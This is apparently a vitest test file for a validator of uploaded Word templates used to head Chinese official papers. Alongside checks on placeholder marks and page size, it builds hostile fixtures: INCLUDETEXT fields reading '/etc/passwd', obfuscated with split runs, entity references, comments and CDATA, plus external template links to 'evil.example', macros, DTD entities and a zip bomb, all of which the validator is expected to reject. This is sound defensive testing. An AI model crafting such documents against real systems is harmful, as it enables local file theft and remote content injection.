import { exampleTemplate } from '@duban/documents/testing/example-template';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { zipOf } from '../testing/zip.ts';
import { openTableWorkshop, type TableWorkshop } from '../worker/table-workshop.ts';

let workshop: TableWorkshop;
beforeAll(() => {
  workshop = openTableWorkshop();
});
afterAll(() => workshop.close());

const codesOf = async (file: Uint8Array) => (await workshop.checkTemplate(file)).map(({ code }) => code);
const wordsOf = async (...lines: readonly string[]) =>
  (await workshop.checkTemplate(await exampleTemplate({ lines }))).map(({ zh }) => zh);
const DOCUMENT = 'word/document.xml';
const within = (inserted: string) =>
  exampleTemplate({ parts: { [DOCUMENT]: (xml) => xml.replace('<w:body>', `<w:body>${inserted}`) } });
const field = (...pieces: readonly string[]) =>
  within(
    `<w:p>${pieces.map((piece) => (piece.startsWith('<') ? piece : `<w:r><w:instrText>${piece}</w:instrText></w:r>`)).join('')}</w:p>`,
  );
const CHAR = (type: 'begin' | 'separate' | 'end') => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
/** In the place of the last paragraph, which holds the mark of the text. */
const bodyWithin = (wrap: (paragraph: string) => string) =>
  exampleTemplate({
    parts: { [DOCUMENT]: (xml) => xml.replace(/<w:p>(?:(?!<w:p>)[\s\S])*<\/w:p>(?=<w:sectPr)/, wrap) },
  });
const relationship = (type: string, mode = 'External') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="http://evil.example/x" TargetMode="${mode}"/></Relationships>`;

describe('a Word template for the head of papers', () => {
  it('is taken when it has its marks, in any order and torn into runs', async () => {
    expect(await codesOf(await exampleTemplate())).toEqual([]);
    expect(await wordsOf('{{标题}}', '{{发文机关}}', '{{ 发文字号 }}', '{{正文}}', '{{成文日期}}')).toEqual([]);
  });

  it('is refused with every mark that is missing or unknown', async () => {
    expect(await wordsOf('{{标题}}', '{{密级}}', '{{#列表}}', '{{/列表}}')).toEqual([
      '缺少标记{{发文字号}}、{{正文}}',
      expect.stringMatching(/^有不认识的标记\{\{密级\}\}、\{\{#列表\}\}、\{\{\/列表\}\}，可用的标记为/),
    ]);
  });

  it('is refused when the text has no paragraph of its own, or two', async () => {
    expect(await wordsOf('{{发文字号}}', '{{标题}}', '正文：{{正文}}')).toEqual([
      expect.stringContaining('须独占一段'),
    ]);
    const [body] = await wordsOf('{{发文字号}}', '{{标题}}', '{{正文}}', '{{正文}}');
    expect(body).toBe('标记{{正文}}只能有一处');
  });

  it.each<readonly [string, (paragraph: string) => string]>([
    ['a table', (mark) => `<w:tbl><w:tr><w:tc>${mark}</w:tc></w:tr></w:tbl>`],
    [
      'a text box',
      (mark) =>
        `<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent>${mark}</w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>`,
    ],
    ['a content control', (mark) => `<w:sdt><w:sdtContent>${mark}</w:sdtContent></w:sdt>`],
  ])('is refused when the text stands in %s', async (_, wrap) => {
    expect(await codesOf(await bodyWithin(wrap))).toEqual(['MISPLACED_BODY']);
  });

  it('is taken with fields that read nothing', async () => {
    const harmless = [CHAR('begin'), ' PAGE ', CHAR('end'), CHAR('begin'), ' HYPERLINK \\l "正文" ', CHAR('end')];
    expect(await codesOf(await field(...harmless))).toEqual([]);
  });

  it('is refused with what its page should be', async () => {
    const wide = await exampleTemplate({ margin: { left: 1134 } });
    expect((await workshop.checkTemplate(wide)).map(({ zh }) => zh)).toEqual([
      expect.stringContaining('版心156×225毫米'),
    ]);
  });

  it.each<readonly [string, string, () => Promise<Uint8Array> | Uint8Array]>([
    ['a text file', 'NOT_WORD', () => new TextEncoder().encode('{{标题}}')],
    ['an archive without a document', 'NOT_WORD', () => zipOf([{ name: 'a.xml', content: '<a/>' }])],
    ['macros', 'MACROS', () => exampleTemplate({ parts: { 'word/vbaProject.bin': () => 'x' } })],
    [
      'an embedded object',
      'EMBEDDED_OBJECTS',
      () => exampleTemplate({ parts: { 'word/embeddings/a.bin': () => 'x' } }),
    ],
    ['another document in it', 'EMBEDDED_OBJECTS', () => within('<w:altChunk r:id="rId9"/>')],
    [
      'a template behind it on the web',
      'EXTERNAL_LINKS',
      () => exampleTemplate({ parts: { 'word/_rels/settings.xml.rels': () => relationship('attachedTemplate') } }),
    ],
    [
      'a field that reads a file',
      'EXTERNAL_LINKS',
      () => within('<w:p><w:r><w:instrText> INCLUDETEXT "/etc/passwd" </w:instrText></w:r></w:p>'),
    ],
    [
      'a field that is torn into pieces',
      'EXTERNAL_LINKS',
      () => field(CHAR('begin'), ' INCLU', 'DEPICTURE "http://evil.example/x"', CHAR('end')),
    ],
    [
      'a field around another one',
      'EXTERNAL_LINKS',
      () => field(CHAR('begin'), 'INCLU', CHAR('begin'), 'SET x ""', CHAR('end'), 'DETEXT "a"', CHAR('end')),
    ],
    ['a field behind a harmless one', 'EXTERNAL_LINKS', () => field('<w:fldSimple w:instr="PAGE"/>', 'DD', 'E x')],
    ['a field with a quotation mark before it', 'EXTERNAL_LINKS', () => field('"" \' INCLUDETEXT "/etc/passwd"')],
    ['a field in references', 'EXTERNAL_LINKS', () => field('&#73;NCLUDE&#x54;EXT "/etc/passwd"')],
    ['a field around a comment', 'EXTERNAL_LINKS', () => field('INCLUDE<!-- -->TEXT "/etc/passwd"')],
    ['a field in CDATA', 'EXTERNAL_LINKS', () => field(' <![CDATA[<!--]]>INCLUDETEXT "a"<![CDATA[-->]]>')],
    [
      'a field with another prefix',
      'EXTERNAL_LINKS',
      () => within('<w:p><w:r><x:instrText xmlns:x="w"> INCLUDETEXT "a" </x:instrText></w:r></w:p>'),
    ],
    ['a simple field', 'EXTERNAL_LINKS', () => within(`<w:p><w:fldSimple w:instr='"" INCLUDE&#84;EXT "a"'/></w:p>`)],
    ['a source of letters', 'EXTERNAL_LINKS', () => within('<w:mailMerge><w:query w:val="SELECT"/></w:mailMerge>')],
    [
      'an outside link in references',
      'EXTERNAL_LINKS',
      () =>
        exampleTemplate({
          parts: { 'word/_rels/settings.xml.rels': () => relationship('attachedTemplate', '&#69;xternal') },
        }),
    ],
    [
      'an outside link in a part of any name',
      'EXTERNAL_LINKS',
      () => exampleTemplate({ parts: { 'word/_rels/settings.bin': () => relationship('attachedTemplate') } }),
    ],
    ['a part that is no XML', 'DAMAGED', () => exampleTemplate({ parts: { 'word/a.xml': () => '<a b="<">' } })],
    [
      'entities',
      'ENTITIES',
      () => exampleTemplate({ parts: { [DOCUMENT]: (xml) => `<!DOCTYPE a [<!ENTITY b "c">]>${xml}` } }),
    ],
    ['300 MB of zeros', 'BOMB', () => zipOf([{ name: DOCUMENT, content: new Uint8Array(300_000_000) }])],
  ])('is refused for %s', async (_, code, file) => {
    expect(await codesOf(await file())).toContain(code);
  });
});
